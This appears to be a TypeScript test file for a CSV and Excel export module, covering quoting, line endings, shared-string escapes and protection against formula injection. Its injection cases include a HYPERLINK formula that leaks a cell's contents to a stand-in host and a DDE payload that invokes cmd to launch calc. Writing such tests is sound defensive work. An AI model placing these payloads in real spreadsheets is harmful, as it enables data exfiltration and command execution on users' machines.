import { strFromU8, unzipSync } from "fflate";
import { bytesOf, textOf } from "../../test/contentOf";
import { csvSheet, excelSheet } from "./sheets";
import type { Cell } from "./useListExport";

async function csvOf([headers = [], ...rows]: readonly (readonly Cell[])[]) {
  const sheet = csvSheet(headers as readonly string[]);
  sheet.add(rows);
  return textOf(await sheet.finish());
}

const cellOf = async (value: string) => (await csvOf([[value]])).slice(1, -2);

it("begins with a byte order mark, and ends each line as Windows does", async () => {
  const text = await csvOf([
    ["Name", "Credits"],
    ["శ్రావణి", 1],
  ]);
  expect(text).toBe('\uFEFF"Name","Credits"\r\n"శ్రావణి",1\r\n');
});

it("keeps commas, quotes and lines of a text within its cell", async () => {
  expect(await cellOf('Gate "B",\nsecond floor')).toBe('"Gate ""B"",\nsecond floor"');
});

it.each([
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "+919876543210",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
])("lets no spreadsheet compute %p", async (value) => {
  expect(await cellOf(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
});

it.each(["Asha Rao", "502", "a=b", "P-12", "", "'quoted"])("leaves %p as it is", async (value) => {
  expect(await cellOf(value)).toBe(`"${value}"`);
});

/** As spreadsheets read texts (ST_Xstring). */
const readEscapes = (text: string | null) =>
  text?.replace(/_x([0-9A-F]{4})_/gi, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));

it("keeps texts that look like dates, numbers and formulas, and counts with numbers", async () => {
  const texts = ["3/11", "1-2", "007", "12E4", "=1+1", "+91 98765 43210", "శ్రావణి", "a\nb & <c>"];
  texts.push("_x0041_", "a__x000D_x0041_", "_x005f_x0041_", "_x41_", "_X0041_");
  const sheet = excelSheet(["Flat", "Credits"]);
  sheet.add(texts.map((text, index) => [text, index + 0.5]));
  const files = unzipSync(await bytesOf(await sheet.finish()));
  const read = (path: string) =>
    new DOMParser().parseFromString(strFromU8(files[path] ?? new Uint8Array()), "text/xml");
  const shared = [...read("xl/sharedStrings.xml").querySelectorAll("si")].map(({ textContent }) =>
    readEscapes(textContent),
  );
  const cells = [...read("xl/worksheets/sheet1.xml").querySelectorAll("sheetData c")];
  const values = cells.map((cell) => {
    const value = cell.querySelector("v")?.textContent ?? "";
    return cell.getAttribute("t") === "s" ? shared[Number(value)] : Number(value);
  });
  expect(values).toEqual([
    ...["Flat", "Credits"],
    ...texts.flatMap((text, index) => [text, index + 0.5]),
  ]);
  expect(cells.filter((cell) => cell.querySelector("f"))).toEqual([]);
});
